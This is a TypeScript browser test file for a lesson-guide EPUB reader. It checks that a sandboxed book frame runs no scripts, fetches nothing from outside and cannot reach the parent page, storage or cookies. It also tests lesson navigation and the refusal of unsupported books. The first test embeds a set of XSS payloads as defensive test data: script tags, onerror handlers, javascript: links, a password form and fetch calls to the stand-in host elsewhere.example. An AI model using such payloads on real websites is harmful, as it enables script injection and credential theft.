import { bookOf, madeBook } from '../../harness/book.ts'
import { expect, test } from '../../harness/story.ts'

const HOSTILE = `<h1>Quite harmless</h1><p>What can be read.</p>
<script>parent.document.title = 'taken'; fetch('https://elsewhere.example/script')</script>
<script src="https://elsewhere.example/a.js"></script>
<img src="https://elsewhere.example/pixel.png" alt="a picture from elsewhere" onerror="fetch('https://elsewhere.example/error')"/>
<img src="x.png" alt="" onerror="top.location = 'https://elsewhere.example/'"/>
<p onclick="alert(1)" style="background: url(https://elsewhere.example/style.png)">A line with a handler.</p>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><script>parent.hacked = 1</script>
<image href="https://elsewhere.example/svg.png" width="10" height="10"/><a href="javascript:alert(1)"><text y="9">svg link</text></a></svg>
<iframe src="https://elsewhere.example/frame"></iframe><object data="https://elsewhere.example/object"></object>
<form action="https://elsewhere.example/form"><input name="password"/><button>Send</button></form>
<video src="https://elsewhere.example/video.mp4" autoplay="autoplay"></video>
<a href="javascript:parent.hacked = 2">a script as a link</a> <a href="data:text/html,x">data as a link</a>
<a href="//elsewhere.example/page" target="_top">out of the book</a> <a href="two.xhtml#there" target="_top">the next page</a>
<meta http-equiv="refresh" content="0; url=https://elsewhere.example/refresh"/><base href="https://elsewhere.example/"/>`

const HEAD = `<link rel="stylesheet" href="https://elsewhere.example/a.css"/><link rel="prefetch" href="https://elsewhere.example/prefetch"/>
<style>@import url(https://elsewhere.example/import.css); body { background: url(https://elsewhere.example/body.png) }
html { height: 100vh } body { height: 100vh; min-height: 100vh }</style>`

test('nothing in a book runs, and nothing is fetched from elsewhere', async ({ page, openAs, context }) => {
  const book = await madeBook({
    pages: { 'one.xhtml': HOSTILE, 'two.xhtml': '<h1>Two</h1><p id="there">There.</p>' },
    head: HEAD,
  })
  await page.route('**/api/lesson_guides/2/epub', route =>
    route.fulfill({ body: book, contentType: 'application/epub+zip' }),
  )
  const fetched: string[] = []
  context.on('request', request => {
    if (request.url().includes('elsewhere.example')) fetched.push(request.url())
  })
  await openAs('teacher', '/lesson-guides/2?page=one.xhtml')
  await expect(bookOf(page).getByRole('heading', { name: 'Quite harmless' })).toBeVisible()
  await expect(bookOf(page).getByText('a picture from elsewhere')).toBeVisible()
  await expect(bookOf(page).locator('script, iframe, object, form, input, video, img, meta, base')).toHaveCount(
    // The frame's own: its script and what its head says.
    await bookOf(page).locator('head :is(script, meta)').count(),
  )
  await bookOf(page).getByText('A line with a handler.').click()
  await bookOf(page).getByText('a script as a link').click()
  await bookOf(page).getByText('data as a link').click()
  await bookOf(page).getByText('svg link').click()
  expect(await page.evaluate(() => [Reflect.get(window, 'hacked'), location.pathname])).toEqual([
    undefined,
    '/lesson-guides/2',
  ])
  // The frame is as tall as its page, whatever the page says of its height.
  const height = await page.locator('iframe').evaluate(frame => frame.clientHeight)
  expect(height).toBeLessThan(2000)

  await bookOf(page).getByText('out of the book').click()
  await expect(page.getByText('This link leads out of the guide, to elsewhere.example.')).toBeVisible()
  await page.getByRole('button', { name: 'Stay here' }).click()
  await bookOf(page).getByText('the next page').click()
  await expect(bookOf(page).getByText('There.')).toBeVisible()
  expect(fetched).toEqual([])
})

test('a lesson that only its heading names has a page of its own', async ({ page, openAs }) => {
  const body = await madeBook({
    pages: {
      'one.xhtml': `<section id="unit"><h2>Lesson 1</h2><p>The first.</p><div><h2>Lesson 2: Two</h2><p>The second.</p></div>
<h2>Lesson 3</h2><p>The third.</p></section>`,
      'two.xhtml': '<h2>Lesson 4</h2><p>The fourth.</p><h2>Lesson 5</h2><p>The fifth.</p>',
    },
  })
  await page.route('**/api/lesson_guides/2/epub', route => route.fulfill({ body, contentType: 'application/epub+zip' }))
  await openAs('teacher', '/lesson-guides/2?lesson=1')
  for (const [at, text] of ['The first.', 'The second.', 'The third.', 'The fourth.', 'The fifth.'].entries()) {
    await expect(page.getByText(`Lesson ${at + 1} of 207`)).toBeVisible()
    await expect(bookOf(page).locator('p')).toHaveText([text])
    await page.keyboard.press('ArrowRight')
  }
})

test('the frame of a book has no origin, reaches nothing and keeps to its policy', async ({ page, openAs }) => {
  await openAs('teacher', '/lesson-guides/2?lesson=80')
  await expect(bookOf(page).getByText('Level 2, Lesson 80', { exact: true })).toBeVisible()
  const frame = page.frames().find(each => each.url().endsWith('/book-frame.html'))
  const reached = await frame?.evaluate(async () => {
    const failed = async (act: () => unknown) => {
      try {
        await act()
        return 'reached'
      } catch (error) {
        return (error as Error).name
      }
    }
    return {
      origin: self.origin,
      portal: await failed(() => (parent as unknown as Window).document.title),
      storage: await failed(() => localStorage.getItem('hornbook-token')),
      cookie: await failed(() => document.cookie),
    }
  })
  expect(reached).toMatchObject({
    origin: 'null',
    portal: 'SecurityError',
    storage: 'SecurityError',
    cookie: 'SecurityError',
  })
  await expect(page).toHaveURL('/lesson-guides/2?lesson=80')
})

const protectedFile = `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#">
<EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/></EncryptedData></encryption>`
const PAGES = { 'one.xhtml': '<h1>One</h1>' }

for (const [what, sentence, made] of [
  [
    'is protected',
    'This book is protected against copying',
    () => madeBook({ pages: PAGES, files: { 'META-INF/encryption.xml': protectedFile } }),
  ],
  [
    'has a fixed layout',
    'have a fixed layout',
    () => madeBook({ pages: PAGES, metadata: '<meta property="rendition:layout">pre-paginated</meta>' }),
  ],
  ['has no pages', 'This book has no pages.', () => madeBook({ pages: {} })],
  ['is none', 'This file is not a book', () => Promise.resolve(Buffer.from('not a zip'))],
] as const)
  test(`a book that ${what} is refused in a sentence`, async ({ page, openAs }) => {
    const body = await made()
    await page.route('**/api/lesson_guides/2/epub', route =>
      route.fulfill({ body, contentType: 'application/epub+zip' }),
    )
    await openAs('teacher', '/lesson-guides/2')
    await expect(page.getByRole('main')).toContainText(sentence)
    await page.getByRole('link', { name: 'All lesson guides' }).click()
    await expect(page).toHaveURL('/lesson-guides')
  })
